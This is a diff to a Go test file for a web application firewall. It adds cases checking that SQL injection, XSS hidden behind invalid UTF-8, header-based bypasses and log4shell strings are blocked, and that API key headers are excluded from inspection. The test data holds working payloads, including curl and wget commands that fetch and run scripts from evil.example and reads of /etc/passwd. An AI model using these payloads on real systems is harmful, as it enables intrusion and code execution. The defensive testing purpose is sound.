@@ -98,6 +98,9 @@ func attacks(t testing.TB) []struct {
 		{"command injection", req("GET", "/v1/jobs?cursor="+q("x; cat /etc/passwd"), "", nil)},
 		{"command injection backticks", jsonReq("POST", "/v1/keys", `{"name":"k`+"`"+`wget http://evil.example/x.sh -O- | sh`+"`"+`"}`)},
 		{"command injection subshell", req("GET", "/v1/jobs?cursor="+q("$(curl http://evil.example/x|bash)"), "", nil)},
+		// RE2 stops at an invalid UTF-8 byte; such values run on Go's regexp.
+		{"sqli behind invalid utf-8", jsonReq("POST", "/v1/jobs", "{\"dataset\":\"\xff 1 UNION SELECT username, password FROM users\"}")},
+		{"xss behind invalid utf-8", req("GET", "/v1/jobs?cursor="+q("\xc0<script>alert(document.cookie)</script>"), "", nil)},
 		{"log4shell in header", func() *http.Request {
 			r := req("GET", "/v1/jobs", "", nil)
 			r.Header.Set("User-Agent", "${jndi:ldap://evil.example/a}")
@@ -106,6 +109,17 @@ func attacks(t testing.TB) []struct {
 		{"log4shell obfuscated in json", jsonReq("POST", "/v1/jobs", `{"dataset":"${${lower:j}ndi:${lower:l}dap://evil.example/x}"}`)},
 		{"log4shell in query", req("GET", "/v1/jobs?cursor="+q("${jndi:rmi://evil.example:1099/obj}"), "", nil)},
 		{"php injection", req("GET", "/v1/jobs?cursor="+q("<?php system($_GET['c']); ?>"), "", nil)},
+		// CRS's restricted headers (920450, rewritten in restrictedHeaders).
+		{"method override header", func() *http.Request {
+			r := req("POST", "/v1/keys/key_1", "", nil)
+			r.Header.Set("X-HTTP-Method-Override", "DELETE")
+			return r
+		}()},
+		{"middleware subrequest header", func() *http.Request {
+			r := req("GET", "/v1/jobs", "", nil)
+			r.Header.Set("x-middleware-subrequest", "middleware:middleware:middleware")
+			return r
+		}()},
 		{"scanner user agent", func() *http.Request {
 			r := req("GET", "/v1/jobs", "", nil)
 			r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
@@ -330,6 +344,35 @@ func TestExclusionsMatter(t *testing.T) {
 	moved := `{"dataset":"ds_1","target":"1' union select password from users or 1=1 --"}`
 	if v, _, _ := crs(t).Inspect(jsonReq("POST", "/v1/jobs", moved), client); !v.Blocked {
 		t.Fatalf("the same payload outside a rule's regex was not refused: %+v", v.Matches)
+	}
+}
+
+// The API key headers are not inspected: a key that happens to look like
+// an attack reaches the authenticator (which refuses any key it did not
+// issue), while the same string in any other header is still refused.
+func TestAPIKeyHeadersExcluded(t *testing.T) {
+	const payload = "sk_live_../../../../etc/passwd;${jndi:ldap://evil.example/a}"
+	for _, tc := range []struct {
+		header  string
+		value   string
+		blocked bool
+	}{
+		{"Authorization", "Bearer " + payload, false},
+		{"X-API-Key", payload, false},
+		{"X-Client-Note", payload, true},
+		{"User-Agent", payload, true},
+	} {
+		t.Run(tc.header, func(t *testing.T) {
+			r := req("GET", "/v1/jobs", "", nil)
+			r.Header.Set(tc.header, tc.value)
+			v, _, err := crs(t).Inspect(r, client)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if v.Blocked != tc.blocked {
+				t.Fatalf("blocked %v, want %v (rules %s)", v.Blocked, tc.blocked, v.RuleIDs())
+			}
+		})
 	}
 }
 
